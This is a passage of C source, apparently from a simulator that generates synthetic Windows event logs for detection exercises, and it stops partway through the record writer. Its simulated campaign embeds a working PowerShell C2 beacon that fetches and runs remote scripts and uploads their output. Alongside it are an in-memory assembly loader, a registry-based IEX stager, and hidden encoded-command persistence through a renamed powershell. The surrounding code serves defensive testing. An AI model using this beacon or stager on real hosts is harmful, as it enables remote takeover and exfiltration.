/*
 * events.c - Windows event logs of the simulated endpoints over the log window.
 *
 * Per host, in time order: Security 4624 logons and 4688 process creations (with the
 * command line where auditing includes it), Sysmon 1/3/22 where Sysmon runs, PowerShell
 * 4103/4104 and classic 400/800. Victims' persistence re-launches the renamed
 * PowerShell at each logon with an encoded command; its script block (split into
 * MessageNumber/MessageTotal parts when long) names the C2; every beacon is a Sysmon 3
 * connection from the renamed binary, every process start a Sysmon 22 DNS query. Some
 * victims' Security logs are cleared (1102; record ids restart).
 *
 * Shapes: Winlogbeat writes ECS-nested JSON with UTC @timestamp; NXLog writes flat
 * JSON (EventData fields at the top level) with EventTime in the host's local time and
 * no zone. Host clocks may be skewed; timestamps carry the skew, as real ones do.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sakimori/digest.h>
#include <sakimori/json.h>

#include "events.h"
#include "inventory.h"
#include "jobs.h"

#define SEC SK_NS_PER_SEC
#define HOUR_NS (INT64_C(3600) * SEC)
#define DAY_NS (24 * HOUR_NS)

enum { CH_SECURITY, CH_SYSMON, CH_PS_OPERATIONAL, CH_PS_CLASSIC, N_CH };
static const char *const channel_name[N_CH] = {"Security", "Microsoft-Windows-Sysmon/Operational",
                                                "Microsoft-Windows-PowerShell/Operational", "Windows PowerShell"};
static const char *const provider_name[N_CH] = {"Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon",
                                                 "Microsoft-Windows-PowerShell", "PowerShell"};
static const char *const provider_guid[N_CH] = {"{54849625-5478-4994-A5BA-3E3B0328C30D}", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
                                                 "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", NULL};

typedef struct kv {
    const char *k;
    const char *v;
} kv;

typedef struct rec {
    sk_time t;       /* true time; the written time adds the host's skew */
    uint8_t ch;
    uint16_t id;
    uint32_t seq;    /* insertion order: a stable tie-break */
    uint32_t off, len; /* the EventData, serialised "k\0v\0k\0v\0" in the pool */
    uint8_t n;
} rec;

typedef struct host_log {
    const sim_world *w;
    size_t host;
    rec *r;
    size_t n, cap;
    sk_buf pool;
    uint64_t record_id[N_CH];
} host_log;

static int add(host_log *hl, sk_time t, int ch, int id, const kv *d, size_t nd)
{
    if (hl->n == hl->cap) {
        size_t nc = hl->cap ? hl->cap * 2 : 1024;
        rec *p = realloc(hl->r, nc * sizeof *p);
        if (!p) return sk_error_set(SK_ENOMEM, "out of memory");
        hl->r = p;
        hl->cap = nc;
    }
    rec *r = &hl->r[hl->n];
    r->t = t;
    r->ch = (uint8_t)ch;
    r->id = (uint16_t)id;
    r->seq = (uint32_t)hl->n;
    r->off = (uint32_t)hl->pool.len;
    r->n = (uint8_t)nd;
    for (size_t i = 0; i < nd; i++) {
        int rc = sk_buf_append(&hl->pool, d[i].k, strlen(d[i].k) + 1);
        if (!rc) rc = sk_buf_append(&hl->pool, d[i].v, strlen(d[i].v) + 1);
        if (rc) return rc;
    }
    r->len = (uint32_t)(hl->pool.len - r->off);
    hl->n++;
    return 0;
}

static int cmp_rec(const void *a, const void *b)
{
    const rec *x = a, *y = b;
    if (x->t != y->t) return x->t < y->t ? -1 : 1;
    return x->seq < y->seq ? -1 : x->seq > y->seq;
}

/* ---- what happens on a host --------------------------------------------------- */

/* the same GUID without braces */
static const char *bare(char out[37], const char g[39])
{
    memcpy(out, g + 1, 36);
    out[36] = '\0';
    return out;
}

static void guid(char out[39], sim_rng *r)
{
    uint64_t a = sim_rng_next(r), b = sim_rng_next(r);
    snprintf(out, 39, "{%08x-%04x-%04x-%04x-%012llx}", (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xffff,
             (unsigned)a & 0xffff, (unsigned)(b >> 48), (unsigned long long)(b & 0xffffffffffffull));
}

/* Base64 of UTF-16LE text, as powershell -EncodedCommand takes it. */
static void encode_command(char *out, size_t cap, const char *script)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char u[1200];
    size_t n = 0;
    for (const char *p = script; *p && n + 2 <= sizeof u; p++) {
        u[n++] = (unsigned char)*p;
        u[n++] = 0;
    }
    size_t o = 0;
    for (size_t i = 0; i < n && o + 5 < cap; i += 3) {
        unsigned v = (unsigned)u[i] << 16 | (i + 1 < n ? (unsigned)u[i + 1] << 8 : 0) | (i + 2 < n ? u[i + 2] : 0);
        out[o++] = b64[(v >> 18) & 63];
        out[o++] = b64[(v >> 12) & 63];
        out[o++] = i + 1 < n ? b64[(v >> 6) & 63] : '=';
        out[o++] = i + 2 < n ? b64[v & 63] : '=';
    }
    out[o] = '\0';
}

/* Sysmon's Hashes field: "SHA256=" and upper-case hex (80 bytes). */
static void sysmon_hashes(char out[80], const uint8_t d[32])
{
    char hex[65];
    sk_hex(hex, d, 32);
    for (char *q = hex; *q; q++)
        if (*q >= 'a' && *q <= 'f') *q = (char)(*q - 32);
    snprintf(out, 80, "SHA256=%s", hex);
}

/* ... of the powershell.exe this host's image has, as the catalogue gives it */
static void powershell_hashes(const sim_world *w, size_t host, char out[80])
{
    uint8_t d[32];
    sim_powershell_sha256(w, host, d);
    sysmon_hashes(out, d);
}

/* Windows PowerShell's classic 400 (engine state Available): three unnamed <Data>, the
 * third holding "Key=Value" lines, HostApplication among them. */
static int engine_start(host_log *hl, sk_time t, const char *host_application, const char proc_guid[39])
{
    char detail[7000], hid[37];
    bare(hid, proc_guid);
    snprintf(detail, sizeof detail, "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n"
             "\tHostName=ConsoleHost\r\n\tHostVersion=5.1.17763.1\r\n\tHostId=%s\r\n\tHostApplication=%s\r\n"
             "\tEngineVersion=5.1.17763.1\r\n\tRunspaceId=%s\r\n", hid, host_application, hid);
    kv e400[] = {{"", "Available"}, {"", "None"}, {"", detail}};
    return add(hl, t, CH_PS_CLASSIC, 400, e400, 3);
}

/* A cmdlet call as module logging records it: "Name=value" parameters separated by '\n'. */
typedef struct ps_call {
    const char *cmdlet, *params;
} ps_call;

/* The invocation text of 4103's Payload and 800's third <Data>. */
static void invocation(char *out, size_t cap, const ps_call *c)
{
    size_t o = (size_t)snprintf(out, cap, "CommandInvocation(%s): \"%s\"\r\n", c->cmdlet, c->cmdlet);
    for (const char *p = c->params; p && *p && o < cap;) {
        const char *nl = strchr(p, '\n'), *eq = strchr(p, '=');
        size_t len = nl ? (size_t)(nl - p) : strlen(p);
        size_t klen = eq && (size_t)(eq - p) < len ? (size_t)(eq - p) : len;
        o += (size_t)snprintf(out + o, cap - o, "ParameterBinding(%s): name=\"%.*s\"; value=\"%.*s\"\r\n", c->cmdlet,
                              (int)klen, p, klen < len ? (int)(len - klen - 1) : 0, klen < len ? p + klen + 1 : "");
        p += len + (nl != NULL);
    }
}

/*
 * Module logging (where the site's policy enables it): one Operational 4103 per cmdlet
 * call, and the classic log's 800 for the pipeline (`pipeline` is its text; NULL for
 * calls inside a pipeline still running). `seq` is the engine's sequence number.
 */
static int module_log(host_log *hl, sk_time t, const char *host_app, const char proc_guid[39], const char *user,
                      const char *pipeline, const ps_call *calls, size_t n, unsigned *seq)
{
    char hid[37];
    bare(hid, proc_guid);
    static _Thread_local char ctx[8192], payload[4096], detail[8192], all[8192];
    int rc = 0;
    size_t ao = 0;
    all[0] = '\0';
    for (size_t i = 0; i < n && !rc; i++) {
        invocation(payload, sizeof payload, &calls[i]);
        if (ao < sizeof all) ao += (size_t)snprintf(all + ao, sizeof all - ao, "%s", payload);
        snprintf(ctx, sizeof ctx,
                 "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.17763.1\r\n"
                 "        Host ID = %s\r\n        Host Application = %s\r\n        Engine Version = 5.1.17763.1\r\n"
                 "        Runspace ID = %s\r\n        Pipeline ID = 1\r\n        Command Name = %s\r\n"
                 "        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n"
                 "        Sequence Number = %u\r\n        User = %s\r\n        Connected User = \r\n"
                 "        Shell ID = Microsoft.PowerShell\r\n",
                 hid, host_app, hid, calls[i].cmdlet, (*seq)++, user);
        kv e[] = {{"ContextInfo", ctx}, {"UserData", ""}, {"Payload", payload}};
        rc = add(hl, t + (sk_time)i * (SEC / 100), CH_PS_OPERATIONAL, 4103, e, 3);
    }
    if (rc || !pipeline) return rc;
    snprintf(detail, sizeof detail,
             "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=%u\r\n\r\n\tUserId=%s\r\n"
             "\tHostName=ConsoleHost\r\n\tHostVersion=5.1.17763.1\r\n\tHostId=%s\r\n\tHostApplication=%s\r\n"
             "\tEngineVersion=5.1.17763.1\r\n\tRunspaceId=%s\r\n\tPipelineId=1\r\n\tScriptName=\r\n\tCommandLine=%s\r\n",
             (*seq)++, user, hid, host_app, hid, pipeline);
    kv e800[] = {{"", pipeline}, {"", detail}, {"", all}};
    return add(hl, t + (sk_time)n * (SEC / 100), CH_PS_CLASSIC, 800, e800, 3);
}

typedef struct proc {
    const char *image, *cmdline, *parent_image, *parent_cmdline, *orig, *desc, *company, *product, *user;
    const char *fileversion;
    const char *hashes;
    int pid, ppid;
    char guid[39];
} proc;

static int process_start(host_log *hl, sim_rng *r, sk_time t, const proc *p, int sysmon, int cmdline)
{
    char pid[16], ppid[16], hexpid[16], hexppid[16];
    snprintf(pid, sizeof pid, "%d", p->pid);
    snprintf(ppid, sizeof ppid, "%d", p->ppid);
    snprintf(hexpid, sizeof hexpid, "0x%x", p->pid);
    snprintf(hexppid, sizeof hexppid, "0x%x", p->ppid);
    const sim_host *h = &hl->w->hosts[hl->host];
    char subj[24];
    snprintf(subj, sizeof subj, "%s$", h->name);
    kv sec[] = {{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", subj}, {"SubjectDomainName", hl->w->sc->netbios_domain},
                {"SubjectLogonId", "0x3e7"}, {"NewProcessId", hexpid}, {"NewProcessName", p->image},
                {"TokenElevationType", "%%1936"}, {"ProcessId", hexppid}, {"CommandLine", cmdline ? p->cmdline : ""},
                {"TargetUserSid", "S-1-0-0"}, {"TargetUserName", "-"}, {"TargetDomainName", "-"}, {"TargetLogonId", "0x0"},
                {"ParentProcessName", p->parent_image}, {"MandatoryLabel", "S-1-16-12288"}};
    int rc = add(hl, t, CH_SECURITY, 4688, sec, sizeof sec / sizeof sec[0]);
    if (rc || !sysmon) return rc;
    char utc[40], pguid[39], hashes[80];
    if (!p->hashes) { /* a stable digest per image path */
        uint8_t d[32];
        sk_sha256(p->image, strlen(p->image), d);
        sysmon_hashes(hashes, d);
    }
    sk_time_format(utc, t, 3);
    utc[10] = ' ';
    utc[strlen(utc) - 1] = '\0';
    guid(pguid, r);
    kv sm[] = {{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", p->guid}, {"ProcessId", pid}, {"Image", p->image},
               {"FileVersion", p->fileversion ? p->fileversion : "-"}, {"Description", p->desc}, {"Product", p->product},
               {"Company", p->company}, {"OriginalFileName", p->orig}, {"CommandLine", p->cmdline},
               {"CurrentDirectory", "C:\\Windows\\system32\\"}, {"User", p->user}, {"LogonGuid", pguid},
               {"LogonId", "0x3e7"}, {"TerminalSessionId", "1"}, {"IntegrityLevel", "Medium"}, {"Hashes", p->hashes ? p->hashes : hashes},
               {"ParentProcessGuid", pguid}, {"ParentProcessId", ppid}, {"ParentImage", p->parent_image},
               {"ParentCommandLine", p->parent_cmdline}};
    return add(hl, t + SEC / 500, CH_SYSMON, 1, sm, sizeof sm / sizeof sm[0]);
}

static const struct {
    const char *image, *orig, *desc, *company, *product, *parent, *fileversion;
} benign_procs[] = {
    {"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "Host Process for Windows Services", "Microsoft Corporation", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "C:\\Windows\\System32\\services.exe", "10.0.17763.1 (WinBuild.160101.0800)"},
    {"C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "Console Window Host", "Microsoft Corporation", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "C:\\Windows\\System32\\cmd.exe", "10.0.17763.1 (WinBuild.160101.0800)"},
    {"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google LLC", "Google Chrome", "C:\\Windows\\explorer.exe", "75.0.3770.100"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", "Microsoft Corporation", "Microsoft Office", "C:\\Windows\\explorer.exe", "16.0.11328.20222"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", "Microsoft Corporation", "Microsoft Office", "C:\\Windows\\explorer.exe", "16.0.11328.20222"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel", "Microsoft Corporation", "Microsoft Office", "C:\\Windows\\explorer.exe", "16.0.11328.20222"},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", "Microsoft Corporation", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "C:\\Windows\\System32\\svchost.exe", "10.0.17763.1 (WinBuild.160101.0800)"},
    {"C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker", "Microsoft Corporation", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "C:\\Windows\\System32\\svchost.exe", "10.0.17763.1 (WinBuild.160101.0800)"},
    {"C:\\Program Files\\ExampleAV\\Agent\\avupdate.exe", "avupdate.exe", "Pattern File Updater", "ExampleAV Corporation", "ExampleAV Endpoint Protection", "C:\\Program Files\\ExampleAV\\Agent\\avagent.exe", "12.0.1.2043"},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "Microsoft Corporation", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "C:\\Windows\\System32\\SearchIndexer.exe", "10.0.17763.1 (WinBuild.160101.0800)"},
};
#define N_BENIGN_PROCS (sizeof benign_procs / sizeof benign_procs[0])

static int host_events(host_log *hl)
{
    const sim_world *w = hl->w;
    const sim_host *h = &w->hosts[hl->host];
    const sim_scenario *sc = w->sc;
    sk_time ws, we;
    sim_log_window(w, &ws, &we);
    sim_rng r;
    sim_rng_init(&r, w->seed, "events", hl->host);
    int sysmon = (h->coverage & SIM_COV_SYSMON) != 0, cmdline = (h->coverage & SIM_COV_CMDLINE) != 0;
    const char *user = h->user != UINT32_MAX ? w->users[h->user].sam : "svc-admin";
    char dom_user[64];
    snprintf(dom_user, sizeof dom_user, "%s\\%s", sc->netbios_domain, user);
    int rc = 0;
    /* benign: logons and everyday processes, on the days the host is on */
    for (int64_t day = ws / DAY_NS; day * DAY_NS < we && !rc; day++) {
        sk_time t0 = day * DAY_NS;
        sk_time mid = t0 + 12 * HOUR_NS;
        uint32_t ip;
        if (!sim_host_online(w, hl->host, mid, &ip) && !sim_host_online(w, hl->host, t0 + 3 * HOUR_NS, &ip)) continue;
        sk_time logon = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC;
        if (logon < ws || logon >= we) continue;
        char lid[24];
        snprintf(lid, sizeof lid, "0x%llx", (unsigned long long)(0x100000 + sim_rng_below(&r, 0xffffff)));
        kv lg[] = {{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "-"}, {"TargetUserName", user},
                   {"TargetDomainName", sc->netbios_domain}, {"TargetLogonId", lid}, {"LogonType", "2"},
                   {"LogonProcessName", "User32"}, {"AuthenticationPackageName", "Negotiate"},
                   {"WorkstationName", h->name}, {"IpAddress", "127.0.0.1"}};
        rc = add(hl, logon, CH_SECURITY, 4624, lg, sizeof lg / sizeof lg[0]);
        unsigned n = (unsigned)(sim_rng_range(&r, 20, 80) * sc->benign_density + 0.5);
        for (unsigned k = 0; k < n && !rc; k++) {
            size_t p = (size_t)sim_rng_below(&r, N_BENIGN_PROCS);
            sk_time t = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC + (sk_time)sim_rng_below(&r, 1000) * 1000000;
            if (t < ws || t >= we) continue;
            proc pr = {.image = benign_procs[p].image, .cmdline = benign_procs[p].image,
                       .parent_image = benign_procs[p].parent, .parent_cmdline = benign_procs[p].parent,
                       .orig = benign_procs[p].orig, .desc = benign_procs[p].desc, .company = benign_procs[p].company,
                       .product = benign_procs[p].product, .user = dom_user, .fileversion = benign_procs[p].fileversion,
                       .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = (int)sim_rng_range(&r, 400, 30000)};
            guid(pr.guid, &r);
            rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
            /* browsers, Office and the AV updater go online: DNS and a connection to the proxy */
            if (!rc && sysmon && (p == 2 || p == 3 || p == 8) && sim_rng_chance(&r, 0.7)) {
                static const char *const names[] = {"www.google.com", "outlook.office365.com", "update.example-av.co.jp",
                                                     "graph.microsoft.com", "content.dropboxapi.com", "www.googleapis.com",
                                                     "teams.microsoft.com", "login.microsoftonline.com"};
                const char *q = p == 8 ? names[2] : names[sim_rng_below(&r, 8)];
                char utc[40], pid[16];
                sk_time_format(utc, t, 3);
                snprintf(pid, sizeof pid, "%d", pr.pid);
                kv dq[] = {{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", pr.guid}, {"ProcessId", pid},
                           {"QueryName", q}, {"QueryStatus", "0"}, {"QueryResults", "::ffff:203.0.113.80;"},
                           {"Image", pr.image}};
                rc = add(hl, t + SEC / 2, CH_SYSMON, 22, dq, 8);
                uint32_t addr;
                if (!rc && sim_host_online(w, hl->host, t, &addr)) {
                    char src[16], dst[16], sport[8];
                    sim_ip_str(addr, src);
                    sim_ip_str(w->hosts[w->sites[h->site].proxy].ip, dst);
                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sim_rng_below(&r, 16000)));
                    kv nc[] = {{"RuleName", "-"}, {"Image", pr.image}, {"User", dom_user}, {"Protocol", "tcp"},
                               {"Initiated", "true"}, {"SourceIsIpv6", "false"}, {"SourceIp", src},
                               {"SourcePort", sport}, {"DestinationIsIpv6", "false"}, {"DestinationIp", dst},
                               {"DestinationPort", "8080"}};
                    rc = add(hl, t + SEC, CH_SYSMON, 3, nc, sizeof nc / sizeof nc[0]);
                }
            }
        }
        /* administrators' and management tools' PowerShell: encoded commands too */
        if (!rc && sim_rng_chance(&r, 0.08)) {
            static const char *const admin_scripts[] = {
                "Get-WmiObject -Class Win32_QuickFixEngineering | Select-Object HotFixID,InstalledOn",
                "Get-ChildItem -Path C:\\Windows\\CCM\\Logs -Filter *.log | Measure-Object",
                "[System.Environment]::OSVersion.Version; Get-Service ccmexec"};
            static const ps_call admin_calls[][2] = {
                {{"Get-WmiObject", "Class=Win32_QuickFixEngineering"}, {"Select-Object", "Property=HotFixID, InstalledOn"}},
                {{"Get-ChildItem", "Path=C:\\Windows\\CCM\\Logs\nFilter=*.log"}, {"Measure-Object", ""}},
                {{"Get-Service", "Name=ccmexec"}, {NULL, NULL}}};
            size_t which = (size_t)sim_rng_below(&r, 3);
            const char *script = admin_scripts[which];
            char enc[1600], cmd[1800];
            encode_command(enc, sizeof enc, script);
            snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand %s", enc);
            sk_time t = t0 + (sk_time)sim_rng_range(&r, 0, 86399) * SEC;
            if (t >= ws && t < we) {
                char phash[80];
                powershell_hashes(w, hl->host, phash);
                proc pr = {.image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", .cmdline = cmd,
                           .parent_image = "C:\\Windows\\CCM\\CcmExec.exe", .parent_cmdline = "C:\\Windows\\CCM\\CcmExec.exe",
                           .orig = "PowerShell.EXE", .desc = "Windows PowerShell", .company = "Microsoft Corporation",
                           .product = "Microsoft\xc2\xae Windows\xc2\xae Operating System", .user = "NT AUTHORITY\\SYSTEM",
                           .fileversion = "10.0.17763.1 (WinBuild.160101.0800)", .hashes = phash,
                           .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = (int)sim_rng_range(&r, 400, 30000)};
                guid(pr.guid, &r);
                rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
                char sbid[39], sbb[37];
                guid(sbid, &r);
                kv sb[] = {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockText", script},
                           {"ScriptBlockId", bare(sbb, sbid)}, {"Path", ""}};
                if (!rc) rc = add(hl, t + SEC / 10, CH_PS_OPERATIONAL, 4104, sb, 5);
                if (!rc) rc = engine_start(hl, t + SEC / 20, cmd, pr.guid);
                unsigned seq = 15;
                if (!rc && (h->coverage & SIM_COV_PS_MODULE))
                    rc = module_log(hl, t + SEC / 8, cmd, pr.guid, "NT AUTHORITY\\SYSTEM", script, admin_calls[which],
                                    admin_calls[which][1].cmdlet ? 2 : 1, &seq);
            }
        }
    }
    /* the campaign */
    if (h->campaign >= 0 && !rc) {
        const sim_victim *v = &w->victims[h->campaign];
        const char *renamed = v->renamed_path[0] ? v->renamed_path : "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        const char *c2 = v->n_c2 ? v->c2[0].host : "example.invalid";
        static _Thread_local char script[96000];
        int sn = snprintf(script, sizeof script,
                 "$u='https://%s/';$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');"
                 "while($true){try{$c=$w.DownloadString($u+'%08x');if($c){$r=[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c)));$o=& $r 2>&1|Out-String;"
                 "$w.UploadString($u+'r',[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($o)))|Out-Null}}catch{};Start-Sleep -s %d}",
                 c2, (unsigned)(sim_rng_next(&r) & 0xffffffffu), v->n_c2 ? (int)v->c2[0].interval_s : 300);
        /* the in-memory payload, base64 as stagers carry it: 40-90 KB */
        {
            static const char b64c[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            sim_rng pr;
            sim_rng_init(&pr, w->seed, "payload", (uint64_t)h->campaign);
            size_t want = (size_t)sim_rng_range(&pr, 40000, 90000);
            size_t at = (size_t)sn;
            at += (size_t)snprintf(script + at, sizeof script - at, ";$p='");
            for (size_t q = 0; q < want && at + 64 < sizeof script; q++) script[at++] = b64c[sim_rng_below(&pr, 64)];
            snprintf(script + at, sizeof script - at, "';$a=[Reflection.Assembly]::Load([Convert]::FromBase64String($p))");
        }
        char enc[6000], cmd[6400];
        encode_command(enc, sizeof enc, "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-ItemProperty HKCU:\\Software\\Classes\\CLSID\\{A3B3C2D1}).d)))");
        const char *exe = strrchr(renamed, '\\') ? strrchr(renamed, '\\') + 1 : renamed;
        snprintf(cmd, sizeof cmd, "%s -nop -w hidden -enc %s", exe, enc);
        for (int64_t day = ws / DAY_NS - 1; day * DAY_NS < we && !rc; day++) {
            /* persistence: a scheduled task starts it once a day */
            sk_time t;
            if (!sim_victim_launch(w, (size_t)h->campaign, day, &t)) continue;
            proc pr = {.image = renamed, .cmdline = cmd, .parent_image = "C:\\Windows\\System32\\svchost.exe",
                       .parent_cmdline = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                       .orig = "PowerShell.EXE", .desc = "Windows PowerShell", .company = "Microsoft Corporation",
                       .product = "Microsoft\xc2\xae Windows\xc2\xae Operating System", .user = dom_user,
                       .fileversion = "10.0.17763.1 (WinBuild.160101.0800)",
                       .pid = (int)sim_rng_range(&r, 400, 30000), .ppid = 1104};
            char hashes[80];
            powershell_hashes(w, hl->host, hashes);
            pr.hashes = hashes;
            guid(pr.guid, &r);
            rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
            /* classic PowerShell engine start: HostApplication names the renamed binary */
            if (!rc) rc = engine_start(hl, t + SEC / 5, cmd, pr.guid);
            /* module logging: the stager's pipeline and the loop's first calls */
            unsigned seq = 15;
            if (!rc && (h->coverage & SIM_COV_PS_MODULE)) {
                static const char stager[] = "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-ItemProperty HKCU:\\Software\\Classes\\CLSID\\{A3B3C2D1}).d)))";
                ps_call get = {"Get-ItemProperty", "Path=HKCU:\\Software\\Classes\\CLSID\\{A3B3C2D1}"};
                rc = module_log(hl, t + SEC / 4, cmd, pr.guid, dom_user, stager, &get, 1, &seq);
                ps_call inner[] = {{"Invoke-Expression", NULL}, {"New-Object", "TypeName=System.Net.WebClient"}};
                static _Thread_local char iex[200];
                snprintf(iex, sizeof iex, "Command=$u='https://%s/';$w=New-Object System.Net.WebClient;...", c2);
                inner[0].params = iex;
                if (!rc) rc = module_log(hl, t + SEC / 2, cmd, pr.guid, dom_user, NULL, inner, 2, &seq);
            }
            /* the decoded script block, split as PowerShell splits long ones */
            char sbid[39], sbb[37];
            guid(sbid, &r);
            bare(sbb, sbid);
            enum { PART = 32000 }; /* where PowerShell splits a logged script block */
            const size_t part = PART;
            size_t len = strlen(script);
            unsigned total = (unsigned)((len + part - 1) / part);
            for (unsigned m = 0; m < total && !rc; m++) {
                char num[16], tot[16];
                static _Thread_local char chunk[PART + 1];
                snprintf(num, sizeof num, "%u", m + 1);
                snprintf(tot, sizeof tot, "%u", total);
                size_t cl = len - m * part < part ? len - m * part : part;
                memcpy(chunk, script + m * part, cl);
                chunk[cl] = '\0';
                kv sb[] = {{"MessageNumber", num}, {"MessageTotal", tot}, {"ScriptBlockText", chunk},
                           {"ScriptBlockId", sbb}, {"Path", ""}};
                rc = add(hl, t + SEC / 3 + m * (SEC / 1000), CH_PS_OPERATIONAL, 4104, sb, 5);
            }
            if (sysmon && !rc) { /* DNS, once per start: the C2 names */
                char utc[40];
                sk_time_format(utc, t, 3);
                for (size_t k = 0; k < v->n_c2 && !rc; k++) {
                    char pid[16];
                    snprintf(pid, sizeof pid, "%d", pr.pid);
                    kv q[] = {{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", pr.guid}, {"ProcessId", pid},
                              {"QueryName", v->c2[k].host}, {"QueryStatus", "0"}, {"QueryResults", "::ffff:203.0.113.10;"},
                              {"Image", renamed}};
                    rc = add(hl, t + SEC + (sk_time)k * SEC / 10, CH_SYSMON, 22, q, 8);
                }
            }
        }
        /* every logged beacon leaves a Sysmon 3 connection from the renamed binary (to the proxy) */
        if (sysmon) {
            for (size_t k = 0; k < v->n_c2 && !rc; k++) {
                sim_beacon_iter it;
                sim_beacon_start(&it, w, (size_t)h->campaign, k);
                sk_time t;
                while (!rc && sim_beacon_next(&it, &t)) {
                    uint32_t ip;
                    if (t < ws) continue;
                    if (t >= we) break;
                    if (!sim_host_online(w, hl->host, t, &ip)) continue;
                    char src[16], dst[16], sport[8];
                    sim_ip_str(ip, src);
                    sim_ip_str(w->hosts[w->sites[h->site].proxy].ip, dst);
                    snprintf(sport, sizeof sport, "%u", (unsigned)(49152 + sim_rng_below(&r, 16000)));
                    kv nc[] = {{"RuleName", "-"}, {"Image", renamed}, {"User", dom_user}, {"Protocol", "tcp"},
                               {"Initiated", "true"}, {"SourceIsIpv6", "false"}, {"SourceIp", src},
                               {"SourcePort", sport}, {"DestinationIsIpv6", "false"}, {"DestinationIp", dst},
                               {"DestinationPort", "8080"}};
                    rc = add(hl, t, CH_SYSMON, 3, nc, sizeof nc / sizeof nc[0]);
                }
            }
        }
    }
    return rc;
}

/* ---- writing the two shapes ------------------------------------------------------ */

static void nx_time(char *out, size_t cap, sk_time t, const sk_tz *tz)
{
    sk_civil c;
    sk_time_to_civil(t + (sk_time)sk_tz_offset_at(tz, t) * SEC, &c);
    snprintf(out, cap, "%04lld-%02d-%02d %02d:%02d:%02d", (long long)c.year, c.month, c.day, c.hour, c.minute, c.second);
}

/* The EventData pairs ("k\0v\0..." from the pool) as members; unnamed ones numbered
 * after `unnamed_prefix`, the way the shipper names them. */
static void event_data(sk_jw *w, const char *p, unsigned n, const char *unnamed_prefix)
{
    unsigned unnamed = 0;
    for (unsigned i = 0; i < n; i++) {
        const char *k = p;
        p += strlen(p) + 1;
        const char *v = p;
        p += strlen(p) + 1;
        char pk[24];
        if (!*k) {
            snprintf(pk, sizeof pk, "%s%u", unnamed_prefix, ++unnamed);
            k = pk;
        }
        sk_jw_kv_string(w, k, v);
    }
}

static int write_record(sk_buf *b, const host_log *hl, const rec *r, uint64_t record_id, const char *fqdn)
{
    const sim_host *h = &hl->w->hosts[hl->host];
    int wlb = (h->coverage & SIM_COV_WINLOGBEAT) != 0;
    sk_time t = r->t + (sk_time)h->clock_skew_ms * 1000000;
    sk_jw w;
    sk_jw_init(&w, b);
    sk_jw_object_begin(&w);
    const char *p = hl->pool.data + r->off;
    char ts[SK_TIME_ISO_MAX];
    if (wlb) {
        sk_time_format(ts, t, 3);
        sk_jw_kv_string(&w, "@timestamp", ts);
        sk_jw_key(&w, "agent");
        sk_jw_object_begin(&w);
        sk_jw_kv_string(&w, "type", "winlogbeat");
        sk_jw_kv_string(&w, "version", "7.2.0");
        sk_jw_kv_string(&w, "hostname", h->name);
        sk_jw_object_end(&w);
        sk_jw_key(&w, "host");
        sk_jw_object_begin(&w);
        sk_jw_kv_string(&w, "name", fqdn);
        sk_jw_object_end(&w);
        sk_jw_key(&w, "event");
        sk_jw_object_begin(&w);
        char code[8];
        snprintf(code, sizeof code, "%u", r->id);
        sk_jw_kv_string(&w, "code", code);
